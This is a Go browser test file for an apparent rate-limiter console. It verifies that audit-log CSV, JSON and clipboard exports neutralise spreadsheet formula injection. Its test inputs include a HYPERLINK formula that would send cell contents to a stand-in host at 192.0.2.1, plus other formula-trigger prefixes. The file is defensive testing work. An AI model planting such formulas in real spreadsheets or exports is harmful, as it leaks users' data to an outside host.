//go:build linux

package uitest

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
)

// saved clicks a control, and returns the file that the browser then saves under a name.
func (b *tab) saved(control, name string) string {
	b.t.Helper()
	folder := b.t.TempDir()
	b.run(browser.SetDownloadBehavior(browser.SetDownloadBehaviorBehaviorAllow).WithDownloadPath(folder))
	b.click(control)
	for end := time.Now().Add(patience); time.Now().Before(end); <-time.After(20 * time.Millisecond) {
		if text, err := os.ReadFile(filepath.Join(folder, name)); err == nil && len(text) > 0 {
			return string(text)
		}
	}
	b.t.Fatalf("%q saves no file %s", control, name)
	return ""
}

// The audit log is saved as it is filtered. Whatever people wrote, a spreadsheet runs no formula.
func TestAuditIsSavedAsItIsFiltered(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	const formula = `=HYPERLINK("http://192.0.2.1/?"&A1)`
	for _, why := range []string{formula, "+1", "-1", "@SUM(A1)", "harmless, \"quoted\""} {
		w.do(http.MethodPost, "/v1/reset?comment="+strings.NewReplacer("+", "%2B", "&", "%26", "?", "%3F", " ", "%20", `"`, "%22").Replace(why), `{"key":"sk_live_0","rule":"orders"}`)
	}
	b := newTab(t, w.pages()+"#/audit?what=reset", desk)
	b.signIn(viewer)
	b.sees("harmless")
	b.lacks("the test prepares")
	rows, err := csv.NewReader(strings.NewReader(b.saved("Export CSV", "stint-audit.csv"))).ReadAll()
	if err != nil || len(rows) != 6 || rows[5][6] != "'"+formula || rows[4][6] != "'+1" || rows[3][6] != "'-1" || rows[2][6] != "'@SUM(A1)" || rows[1][6] != `harmless, "quoted"` {
		t.Errorf("%q, %v", rows, err)
	}
	var body struct{ Entries []struct{ What, Why string } }
	if err := json.Unmarshal([]byte(b.saved("Export JSON", "stint-audit.json")), &body); err != nil || len(body.Entries) != 5 || body.Entries[4].Why != formula {
		t.Errorf("%+v, %v", body, err)
	}
	b.fill("Filter: Changes", "HYPERLINK")
	b.sees("1 of 5")
	if lines := strings.Split(b.copied(), "\n"); len(lines) != 2 || !strings.HasPrefix(lines[0], "Time\tWho\tWhat") || !strings.Contains(lines[1], "\t'"+formula+"\t") {
		t.Errorf("%q", lines)
	}
}

// copied clicks the first control that copies, and returns what the clipboard then has.
func (b *tab) copied() string {
	b.t.Helper()
	for _, permission := range []string{"clipboard-read", "clipboard-write"} {
		b.run(browser.SetPermission(&browser.PermissionDescriptor{Name: permission}, browser.PermissionSettingGranted))
	}
	b.click("Copy")
	b.sees("Copied")
	text, _ := b.eval("navigator.clipboard.readText()").(string)
	return text
}

// What is copied has a column for each value with its unit, and no cell that a spreadsheet takes for
// a formula, for a quoted text or for several cells.
func TestCopiesHaveUnitsAndNoFormulas(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.do(http.MethodPut, "/rules/-orders", "{match: {path_prefix: /v1/orders}, by: [api_key], limit: 30/h}")
	for _, why := range []string{"%22%3D1%2B1%22", "%22open", "%EF%BC%9D1%2B1", "a%09b"} {
		w.do(http.MethodPost, "/v1/reset?comment="+why, `{"key":"sk_live_0","rule":"orders"}`)
	}
	b := newTab(t, w.pages()+"#/audit?what=reset&audit.sort=Reason", desk)
	b.signIn(viewer)
	b.sees("4")
	for _, cell := range []string{"\t\"\"\"=1+1\"\"\"\t", "\t\"\"\"open\"\t", "\t'＝1+1\t"} {
		if got := b.copied(); !strings.Contains(got, cell) || len(strings.Split(got, "\n")) != 5 {
			t.Errorf("the copy lacks %q: %q", cell, got)
		}
	}
	b.goTo("#/rules?q=-orders")
	b.await("document.querySelector('[aria-label=Rules] td')")
	if got := b.copied(); !strings.HasPrefix(got, "Rule\tMode\tMatches\tLimit\tRequests (a second)\tDenied (%)\t") || !strings.Contains(got, "\n'-orders\tenforce\tpath_prefix /v1/orders\t30 an hour for each API key\t0\t0\t") {
		t.Errorf("%q", got)
	}
	b.goTo("#/versions")
	b.sees("in force")
	if got, _, _ := strings.Cut(b.copied(), "\n"); got != "Version\tTime\tWho\tReason" {
		t.Errorf("%q", got)
	}
}
